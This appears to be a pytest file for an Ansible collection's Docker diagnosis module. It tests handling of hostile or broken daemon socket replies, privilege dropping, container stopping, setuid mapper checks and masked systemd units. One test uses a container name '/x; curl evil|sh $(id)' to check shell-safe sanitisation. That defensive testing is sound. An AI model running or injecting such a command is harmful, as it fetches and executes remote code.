"""Somebody's Docker daemon is theirs: what it answers is hostile, and a look does not start it; and what it needs."""

import os
import socket
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path
from types import SimpleNamespace

import pytest
from ansible_collections.gpuadmin.node.plugins.module_utils.diagnosis import docker
from ansible_collections.gpuadmin.node.plugins.module_utils.diagnosis.docker_needs import (
    find_mapper_faults,
    list_masked_units,
)
from ansible_collections.gpuadmin.node.plugins.module_utils.diagnosis.subject import Subject
from ansible_collections.gpuadmin.node.plugins.module_utils.errors import NodeError

UID = 20000


@pytest.fixture
def directory() -> Iterator[Path]:
    with tempfile.TemporaryDirectory(prefix="gd") as name:  # a socket's path is short
        Path(name).chmod(0o755)
        yield Path(name)


def serve(path: Path, answer: Callable[[socket.socket], object], asked: list[bytes] | None = None) -> list[int]:
    """A daemon on a socket; returns the uids that asked, and adds to `asked` what they did."""
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(str(path))
    listener.listen(4)
    uids: list[int] = []

    def run() -> None:
        connection, _ = listener.accept()
        size = 12
        peer = connection.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, size)
        uids.append(int.from_bytes(peer[4:8], "little"))
        with connection, listener:
            text = connection.recv(65536)
            if asked is not None:
                asked.append(text)
            with suppress(OSError):  # whoever asked has hung up
                answer(connection)

    threading.Thread(target=run, daemon=True).start()
    return uids


def forever(connection: socket.socket) -> None:
    connection.sendall(b"HTTP/1.0 200 OK\r\n\r\n")
    while True:
        connection.sendall(b"[" * 65536)


def drip(connection: socket.socket) -> None:
    event = threading.Event()
    while True:
        connection.sendall(b"x")
        event.wait(0.05)


@pytest.mark.parametrize(
    ("answer", "problem"),
    [
        (forever, "does not end"),
        (drip, "did not answer within"),
        (lambda connection: connection.sendall(b"HTTP/1.0 200 OK\r\n\r\n" + b"[" * 500_000), "cannot be read"),
        (lambda connection: connection.sendall(b"HTTP/1.0 500 \x1b[2J\r\n\r\n"), "the daemon answered"),
        (lambda connection: connection.sendall(b""), "the daemon answered"),
    ],
)
def test_a_daemon_that_answers_what_it_likes(
    directory: Path, answer: Callable[[socket.socket], object], problem: str
) -> None:
    serve(directory / "s", answer)
    seconds = 0.5 if answer is drip else 30  # a busy machine sends slowly, too
    with pytest.raises(NodeError, match=problem) as caught:
        docker.ask_daemon(str(directory / "s"), os.geteuid(), "/x", seconds=seconds)
    assert "\x1b" not in str(caught.value)


@pytest.mark.root
@pytest.mark.parametrize("stops", [False, True], ids=["asked", "asked to stop a container"])
def test_it_is_asked_as_its_person_and_root_is_root_again(directory: Path, stops: bool) -> None:
    uids = serve(directory / "s", head(b"204 No Content" if stops else b"200 OK\r\n\r\n{}"))
    (directory / "s").chmod(0o666)
    if stops:
        docker.stop_container(str(directory / "s"), UID, "ab12", 7, 30)
    else:
        assert docker.ask_daemon(str(directory / "s"), UID, "/x") == {}
    assert uids == [UID]
    assert (os.geteuid(), os.getegid()) == (0, 0)


def test_a_daemon_that_does_not_run_is_not_started(directory: Path) -> None:
    asked = serve(directory / "s", lambda connection: None)
    (directory / f"run/user/{UID}").mkdir(parents=True)
    (directory / f"run/user/{UID}/docker.sock").symlink_to(directory / "s")
    subject = Subject(name="nobody-of-that-name", uid=UID, docker="/local/.docker", root=str(directory))
    assert docker.containers(subject) == {"asked": False, "ended": [], "running": 0}
    assert asked == []


@pytest.mark.parametrize("answer", [None, [], "x", {"State": []}, {"State": {"ExitCode": "1", "OOMKilled": 1}}])
def test_an_end_is_plain_whatever_was_answered(answer: object) -> None:
    found = docker.describe_end(answer)
    assert (found["code"], found["oom"]) == (None, False)


@pytest.mark.parametrize(
    ("machine", "image", "emulated", "found"),
    [
        ("x86_64", {"Architecture": "arm64"}, "", ["arm64", "amd64"]),
        ("aarch64", {"Architecture": "amd64"}, "qemu-aarch64", ["amd64", "arm64"]),
        ("x86_64", {"Architecture": "arm64"}, "qemu-aarch64", None),
        ("x86_64", {"Architecture": "amd64"}, "", None),
        ("loongarch64", {"Architecture": "amd64"}, "", None),
        ("x86_64", {"Architecture": "\x1b]0;"}, "", None),
        ("x86_64", {"Architecture": ["arm64"]}, "", None),
        ("x86_64", [], "", None),
        ("x86_64", None, "", None),
    ],
)
def test_an_image_for_another_processor(
    directory: Path, monkeypatch: pytest.MonkeyPatch,
    machine: str, image: object, emulated: str, found: list[str] | None,
) -> None:  # fmt: skip
    monkeypatch.setattr("os.uname", lambda: SimpleNamespace(machine=machine))
    place = directory / "proc/sys/fs/binfmt_misc"
    place.mkdir(parents=True)
    (place / (emulated or "status")).touch()
    assert docker._other_processor(Subject(root=str(directory)), image) == found


def test_a_name_says_nothing_to_a_shell_and_is_cut() -> None:
    assert docker.describe_end({"Name": "/my-job.1_a"})["name"] == "my-job.1_a"
    assert docker.describe_end({"Name": "/x; curl evil|sh $(id)"})["name"] == "x__curl_evil_sh___id_"
    assert len(str(docker.describe_end({"Name": "/\x1b" + "x" * 10_000}))) < 300


def head(words: bytes) -> Callable[[socket.socket], object]:
    return lambda connection: connection.sendall(b"HTTP/1.0 " + words + b"\r\n\r\n")


@pytest.mark.parametrize("words", [b"204 No Content", b"304 Not Modified"])
def test_a_container_is_asked_to_stop(directory: Path, words: bytes) -> None:
    asked: list[bytes] = []
    serve(directory / "s", head(words), asked)
    docker.stop_container(str(directory / "s"), os.geteuid(), "ab12", 7, 30)
    assert [text.split(b"\r\n")[0] for text in asked] == [b"POST /containers/ab12/stop?t=7 HTTP/1.0"]


@pytest.mark.parametrize(
    ("answer", "problem"),
    [
        (head(b"404 Not Found"), "the daemon answered HTTP/1.0 404"),
        (head(b"200 OK"), "the daemon answered HTTP/1.0 200"),
        (head(b"500 \x1b[2J"), "the daemon answered"),
        (lambda connection: connection.sendall(b"204"), "the daemon answered"),
        (lambda connection: connection.sendall(b"\r\n\r\n" + b"204 " * 100), "the daemon answered"),
        (lambda connection: None, "the daemon answered"),
        (lambda connection: connection.recv(1), "did not answer within"),
        (drip, "did not answer within"),
        (forever, "does not end"),
    ],
    ids=["404", "200", "escapes", "one word", "garbage", "hangs up", "never", "slow", "huge"],
)  # fmt: skip
def test_a_daemon_that_does_not_stop_a_container(
    directory: Path, answer: Callable[[socket.socket], object], problem: str
) -> None:
    serve(directory / "s", answer)
    begin = time.monotonic()
    with pytest.raises(NodeError, match=problem) as caught:
        docker.stop_container(str(directory / "s"), os.geteuid(), "ab12", 7, 0.5 if "within" in problem else 30)
    assert "\x1b" not in str(caught.value)
    assert time.monotonic() - begin < 20


@pytest.mark.parametrize("listens", [True, False])
def test_a_daemon_that_takes_nobody_in(directory: Path, listens: bool) -> None:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as daemon:
        daemon.bind(str(directory / "s"))
        waiting = []
        if listens:
            daemon.listen(0)
            for _ in range(2):  # its queue is full
                one = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                one.setblocking(False)
                waiting.append(one)
                with suppress(OSError):
                    one.connect(str(directory / "s"))
        begin = time.monotonic()
        with pytest.raises((OSError, NodeError)):
            docker.stop_container(str(directory / "s"), os.geteuid(), "ab12", 7, 0.5)
        assert time.monotonic() - begin < 20
        for one in waiting:
            one.close()


@pytest.mark.root
def test_mappers(tmp_path: Path) -> None:
    subject = Subject(root=str(tmp_path))
    (tmp_path / "usr/bin").mkdir(parents=True)
    assert find_mapper_faults(subject) == ["/usr/bin/newuidmap is not installed", "/usr/bin/newgidmap is not installed"]
    for name in ("newuidmap", "newgidmap"):
        (tmp_path / "usr/bin" / name).touch()
        (tmp_path / "usr/bin" / name).chmod(0o4755)
    assert find_mapper_faults(subject) == []
    path = tmp_path / "usr/bin/newuidmap"
    for mode, words in ((0o755, "is not setuid root (mode 0755)"), (0o4750, "has mode 4750: people cannot run it")):
        path.chmod(mode)
        assert find_mapper_faults(subject) == [f"/usr/bin/newuidmap {words}"]
    path.chmod(0o4755)
    os.chown(path, 20000, 20000)
    path.chmod(0o4755)
    assert find_mapper_faults(subject) == ["/usr/bin/newuidmap is not setuid root (mode 4755)"]
    os.chown(path, 0, 0)
    path.chmod(0o755)
    # as Fedora has it: vfs_cap_data, version 2, CAP_SETUID
    os.setxattr(path, "security.capability", bytes.fromhex("0100000280000000000000000000000000000000"))
    assert find_mapper_faults(subject) == []


def test_masked(tmp_path: Path) -> None:
    home = str(tmp_path / "home/minji")
    assert list_masked_units(home) == []
    units = tmp_path / "home/minji/.config/systemd/user"
    units.mkdir(parents=True)
    (units / "docker.service").symlink_to("/dev/null")
    (units / "docker.socket").write_text("[Socket]\n")
    assert list_masked_units(home) == ["docker.service"]
    # what is behind a link of theirs is not looked at
    (tmp_path / "home/minji/.config").rename(tmp_path / "elsewhere")
    (tmp_path / "home/minji/.config").symlink_to(tmp_path / "elsewhere")
    assert list_masked_units(home) == []
